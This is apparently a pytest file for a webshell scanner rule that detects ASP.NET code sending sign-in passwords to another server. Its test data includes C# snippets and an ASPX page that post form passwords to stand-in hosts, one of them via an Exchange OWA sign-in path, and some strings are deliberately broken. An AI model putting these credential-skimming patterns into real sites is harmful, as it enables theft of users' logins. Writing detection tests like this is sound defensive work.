"""A password of a request that goes to another server."""

from __future__ import annotations

import pytest

from tests.builders.inert import live
from tests.detectors.fixture_cases import changed, finding, findings, read
from webshellhunt import examine
from webshellhunt.model.rules import Confidence, Severity

STEM = "sign_in_values_sent"
FIXED, LOOK_UP, OWN = (f"{STEM}/{name}" for name in ("csharp-fixed-server", "csharp-name-look-up", "own-field"))
SIGN_IN = "Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/check.aspx"


@pytest.mark.parametrize(
    ("name", "words"),
    [
        (FIXED, "the password of a request is in the address of an HTTP request"),
        (LOOK_UP, "the password of a request is in a host name that the server looks up"),
        (OWN, "the password of a request is in the address"),
    ],
)
def test_the_message(name: str, words: str) -> None:
    found = finding(name, "WSH1047")
    assert found.message.startswith(words)
    assert (found.severity, found.confidence) == (Severity.HIGH, Confidence.MEDIUM)


def test_in_a_sign_in_directory_it_is_critical_and_any_value_counts() -> None:
    assert finding(changed(FIXED, path=SIGN_IN), "WSH1047").severity is Severity.CRITICAL
    other = finding(changed(FIXED, ('"password"', '"d"'), path=SIGN_IN), "WSH1047")
    assert other.severity is Severity.HIGH
    assert other.message.startswith("request data of a sign-in directory")


@pytest.mark.parametrize("key", ["passwd", "txtPassword", "pwd"])
def test_other_words_for_a_password(key: str) -> None:
    assert findings(changed(FIXED, ('"password"', f'"{key}"')), "WSH1047")


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ('"password"', '"passport"'),
        ('"password"', '"smtp_password_host"'),
        ('"http://collect.example.net/?p=" + ', ""),
        ('Request.Form["password"]', 'Settings["password"]'),
    ],
)
def test_other_values_and_whole_addresses_are_none(old: str, new: str) -> None:
    assert findings(changed(FIXED, (old, new)), "WSH1047") == []


def test_the_content_of_a_request() -> None:
    sent = ('DownloadString("http://collect.example.net/?p=" + ', 'UploadString("http://collect.example.net/", "p=" + ')
    assert "is the content of an HTTP request" in finding(changed(FIXED, sent), "WSH1047").message


TO = '"https://collect.example.net/k"'
KEYS = "var d = new System.Collections.Specialized.NameValueCollection(); "
ASKED = f"var r = System.Net.WebRequest.Create({TO}); "


@pytest.mark.parametrize(
    "code",
    [
        KEYS + f'd["a"] = TAKEN; new System.Net.WebClient().UploadValues({TO}, d);',
        KEYS + f'd.Add("a", TAKEN); new System.Net.WebClient().UploadValues({TO}, "POST", d);',
        f'new System.Net.WebClient().UploadString({TO}, "POST", "p=" + TAKEN);',
        'var k = new System.Collections.Generic.Dictionary<string, string> { { "p", TAKEN } }; '
        f"new System.Net.Http.HttpClient().PostAsync({TO}, new System.Net.Http.FormUrlEncodedContent(k));",
        ASKED
        + 'using (var w = new System.IO.StreamWriter(r.GetRequestStream())) w.Write("p=" + TAKEN); r.GetResponse();',
        ASKED
        + "byte[] b = Encoding.UTF8.GetBytes(TAKEN); r.GetRequestStream().Write(b, 0, b.Length); r.GetResponse();",
    ],
)
def test_all_ways_to_send_a_form(code: str) -> None:
    def sends(name: str) -> bool:
        text = f'<%@ Page Language="C#" %><% {code.replace("TAKEN", f"Request.Form[{name}]", 1)} %>'
        return "WSH1047" in {each.rule.id for each in examine(text.encode(), path="site/p.aspx").findings}

    assert sends('"password"')
    assert not sends('"captcha"')


@pytest.mark.parametrize(("value", "count"), [("user.Text", 0), ('user.Text + ":" + p.Text', 1)])
def test_the_password_field_of_a_page_is_known_in_a_cookie_that_is_sent(value: str, count: int) -> None:
    page = live(
        '<·%@ Page Language="C#" %·><script runat="server">void Go(object s, EventArgs e) {\n'
        f'var c = new HttpCookie("c", Convert.ToBase64String(Encoding.UTF8.GetBytes({value})));\n'
        'new System.Net.WebClient().Download·String("http://198.51.100.7/?" + c.Value); }</script>\n'
        '<form runat="server"><asp:TextBox ID="user" runat="server" />\n'
        '<asp:TextBox ID="p" runat="server" TextMode="Password" /><asp:Button runat="server" OnClick="Go" /></form>'
    )
    assert len(findings(read(FIXED)._replace(data=page.encode(), path="a.aspx"), "WSH1047")) == count
